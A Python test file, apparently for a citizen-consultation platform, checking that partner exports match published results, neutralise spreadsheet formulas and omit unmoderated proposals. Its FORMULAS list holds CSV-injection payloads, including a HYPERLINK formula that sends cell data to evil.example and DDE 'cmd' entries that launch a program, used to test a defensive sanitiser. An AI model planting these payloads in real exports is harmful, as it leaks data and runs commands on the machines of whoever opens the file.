"""What partners read in exports: option keys as /results names them, CSV cells a spreadsheet cannot run,
and moderated statements only.

Everything goes through the real participant routes (answers, citizen proposals), the organiser's moderation
routes and the partner routes, over one database.
"""

from __future__ import annotations

import json
from collections import Counter
from typing import Any

from api.partner import formats
from tests.partner.conftest import auth, csv_rows, jsonl_rows, new_key
from tests.results.support import create, fresh_participant, screen, texts
from tests.results.test_results import EVERY_KIND, _walk

SLUG = EVERY_KIND["slug"]


async def export(partner, key: str, name: str, slug: str = SLUG) -> str:
    response = await partner.get(f"/v1/consultations/{slug}/export/{name}", headers=auth(key))
    assert response.status_code == 200, (name, response.text)
    return response.text


def counted_in_export(rows: list[dict[str, Any]], item: str, kind: str) -> Counter:
    """What the rows of one item say, counted the way /results counts them (values as JSON types)."""
    counts: Counter = Counter()
    for row in rows:
        if row["item"] != item:
            continue
        if kind == "single_choice":
            counts[row["option"]] += 1
        elif kind in ("multi_choice", "budget"):
            counts.update(row["value"])
        elif kind in ("scale", "free_text"):
            if row["value"] is not None:
                counts[row["value"]] += 1
        elif kind == "place":
            counts[(row["value"]["latitude"], row["value"]["longitude"])] += 1
        elif kind == "proposal":
            counts[row["proposal"]] += 1
        elif kind == "pairs":
            counts.update([row["left"], row["right"]])
    return counts


def counted_in_results(item: dict[str, Any]) -> Counter:
    kind = item["kind"]
    if kind in ("single_choice", "multi_choice"):
        return Counter({o["key"]: o["count"] for o in item["options"] if o["count"]})
    if kind == "budget":
        return Counter({p["key"]: p["votes"] for p in item["projects"] if p["votes"]})
    if kind == "scale":
        return Counter({d["value"]: d["count"] for d in item["distribution"] if d["count"]})
    if kind == "free_text":
        return Counter(item["texts"])
    if kind == "place":
        return Counter((p["latitude"], p["longitude"]) for p in item["points"])
    if kind == "proposal":
        return Counter({p["id"]: p["votes"] for p in item["proposals"] if p["votes"]})
    return Counter({p["id"]: p["comparisons"] for p in item["proposals"] if p["comparisons"]})  # pairs, decided


def from_csv(row: dict[str, str]) -> dict[str, Any]:
    """A CSV row's cells in their JSON types, as the JSON Lines export has them."""
    out: dict[str, Any] = dict(row)
    for column in ("value", "proposal", "left", "right"):
        text = row[column]
        out[column] = (text if row["item_kind"] == "free_text" else json.loads(text)) if text else None
    return out


async def test_exports_and_results_name_every_answer_the_same_way(partner, http, db):
    await create(db, {**EVERY_KIND, "min_segment_size": 8})  # the eight who answer below: the whole is released
    for i in range(8):
        await _walk(http, await fresh_participant(http, SLUG, f"c{i}"), SLUG, i)
    key = await new_key(db, SLUG)
    results = (await partner.get(f"/v1/consultations/{SLUG}/results", headers=auth(key))).json()
    by_csv = [from_csv(r) for r in csv_rows(await export(partner, key, "answers.csv"))]
    by_jsonl = jsonl_rows(await export(partner, key, "answers.jsonl"))
    kinds = {item["kind"] for item in results["items"]}
    assert kinds == {"single_choice", "multi_choice", "scale", "free_text", "proposal", "pairs", "budget", "place"}
    for item in results["items"]:
        expected = counted_in_results(item)
        assert expected, item["key"]
        for name, rows in (("answers.csv", by_csv), ("answers.jsonl", by_jsonl)):
            if item["kind"] == "pairs":  # both sides of every decided pair: each proposal's comparisons
                rows = [r for r in rows if r["outcome"] in ("left", "right")]
            assert counted_in_export(rows, item["key"], item["kind"]) == expected, (name, item["key"])
    # The ballots as partners read them: option keys (["beta", "gamma"]), never the ids stored ([9, 10]).
    budget = [r["value"] for r in by_jsonl if r["item"] == "budget"]
    assert budget[:4] == [["beta", "gamma"], ["alpha", "gamma"], ["beta", "delta"], ["alpha"]]
    assert [r["value"] for r in by_csv if r["item"] == "budget"] == budget
    barriers = [r["value"] for r in by_jsonl if r["item"] == "barriers"]
    assert barriers and all(set(v) <= {"far", "unsafe", "dull"} for v in barriers)
    # All Our Ideas' and Polis' files name the proposals as /results does.
    items = {item["key"]: item for item in results["items"]}
    ideas = csv_rows(await export(partner, key, "aoi/ideas.csv"))
    assert sorted(int(r["Idea ID"]) for r in ideas) == sorted(p["id"] for p in items["best"]["proposals"])
    comments = csv_rows(await export(partner, key, "polis/comments.csv"))
    assert sorted(int(r["comment-id"]) for r in comments) == sorted(p["id"] for p in items["ideas"]["proposals"])


CITIZENS = {
    "ideas": {
        "type": "proposal",
        "prompt": {"en": "Agree?"},
        "proposals": texts(2, "Idea"),
        "allow_citizen_proposals": True,
    },
    "best": {
        "type": "pairs",
        "prompt": {"en": "Better?"},
        "proposals": texts(2, "Pair"),
        "allow_citizen_proposals": True,
    },
    "why": {"type": "free_text", "prompt": {"en": "Why?"}},
}


async def citizens_consultation(db, slug: str) -> None:
    """One author writes everything here (these tests are about cells and moderation, not the disclosure rule),
    so the consultation releases from one participant."""
    await create(
        db, {"slug": slug, "min_segment_size": 1, "items": [{"key": key, **item} for key, item in CITIZENS.items()]}
    )


async def propose(http, pid: str, item_id: int, text: str) -> int:
    response = await http.post(
        f"/participant/{pid}/proposals", json={"item_id": item_id, "text": text, "language": "en"}
    )
    assert response.status_code == 201, response.text
    return response.json()["id"]


async def item_ids(http, pid: str, slug: str) -> dict[str, int]:
    """The ids of the items, from the participant's screens (votes and pairs move them along)."""
    ids: dict[str, int] = {}
    while (current := await screen(http, pid, slug))["status"] == "item":
        item = current["item"]
        ids[item["key"]] = item["id"]
        if item["kind"] == "proposal":
            await http.post(
                f"/participant/{pid}/votes", json={"proposal_id": current["proposal"]["id"], "choice": "agree"}
            )
        elif item["kind"] == "pairs":
            await http.post(f"/participant/{pid}/pairs/{current['pair']['token']}", json={"outcome": "left"})
        else:
            return ids
    return ids


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your prize")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\tTabbed =1+1 formula",
    "\r=1+1 after CR",
]


async def test_csv_cells_that_start_like_a_formula_are_neutralised_and_jsonl_stays_raw(partner, http, db):
    await citizens_consultation(db, "formulas")
    pid = await fresh_participant(http, "formulas", "writer")
    ids = await item_ids(http, pid, "formulas")
    response = await http.post(f"/participant/{pid}/answers", json={"item_id": ids["why"], "value": FORMULAS[0]})
    assert response.status_code == 200, response.text
    for n, text in enumerate(FORMULAS[1:4]):
        for item in ("ideas", "best"):
            proposal = await propose(http, pid, ids[item], f"{text} #{n}")
            assert (await http.post(f"/organiser/proposals/{proposal}/accept")).status_code == 200
    key = await new_key(db, "formulas")

    answers = {r["item"]: r for r in csv_rows(await export(partner, key, "answers.csv", "formulas"))}
    assert answers["why"]["value"] == "'" + FORMULAS[0]
    raw = {r["item"]: r for r in jsonl_rows(await export(partner, key, "answers.jsonl", "formulas"))}
    assert raw["why"]["value"] == FORMULAS[0]

    bodies = {
        name: await export(partner, key, name, "formulas")
        for name in ("answers.csv", "aoi/ideas.csv", "polis/comments.csv", "aoi/votes.csv")
    }
    aoi = {r["Idea Text"] for r in csv_rows(bodies["aoi/ideas.csv"])}
    polis = {r["comment-body"] for r in csv_rows(bodies["polis/comments.csv"])}
    for n, text in enumerate(FORMULAS[1:4]):
        assert f"'{text} #{n}" in aoi and f"'{text} #{n}" in polis
    # No cell of any CSV export starts like a formula (numbers like a -1 vote are numbers, not formulas).
    for name, body in bodies.items():
        cells = [cell for row in csv_rows(body) for cell in row.values()]
        assert not [c for c in cells if c[:1] in formats.FORMULA_PREFIXES], name


def test_every_formula_prefix_of_the_owasp_rule_is_neutralised():
    assert [formats.csv_safe(text) for text in FORMULAS] == ["'" + text for text in FORMULAS]
    assert [formats.csv_safe(v) for v in ("Plain text", "", -1, 3.5, None, "a=b")] == [
        "Plain text",
        "",
        -1,
        3.5,
        None,
        "a=b",
    ]


async def test_partners_get_accepted_proposals_only(partner, http, db):
    await citizens_consultation(db, "moderated")
    pid = await fresh_participant(http, "moderated", "author")
    ids = await item_ids(http, pid, "moderated")
    texts_by_status = {
        "accepted": "Plant more trees along the river",
        "rejected": "Call my neighbour Ivan on 0501234567",
        "pending": "Paint every bench in bright yellow",
    }
    for item in ("ideas", "best"):
        for status, text in texts_by_status.items():
            proposal = await propose(http, pid, ids[item], text)
            if status == "accepted":
                assert (await http.post(f"/organiser/proposals/{proposal}/accept")).status_code == 200
            elif status == "rejected":
                assert (
                    await http.post(f"/organiser/proposals/{proposal}/reject", json={"reason": "other"})
                ).status_code == 200
    key = await new_key(db, "moderated")
    comments = csv_rows(await export(partner, key, "polis/comments.csv", "moderated"))
    assert [r["comment-body"] for r in comments] == [t["en"] for t in CITIZENS["ideas"]["proposals"]] + [
        texts_by_status["accepted"]
    ]
    assert {r["moderated"] for r in comments} == {"1"}
    assert [r["author-id"] != "" for r in comments] == [False, False, True]
    ideas = csv_rows(await export(partner, key, "aoi/ideas.csv", "moderated"))
    assert [r["Idea Text"] for r in ideas] == [t["en"] for t in CITIZENS["best"]["proposals"]] + [
        texts_by_status["accepted"]
    ]
    for name in ("answers.csv", "answers.jsonl", "aoi/votes.csv", "polis/votes.csv", "aoi/non_votes.csv"):
        body = await export(partner, key, name, "moderated")
        assert texts_by_status["rejected"] not in body and texts_by_status["pending"] not in body, name
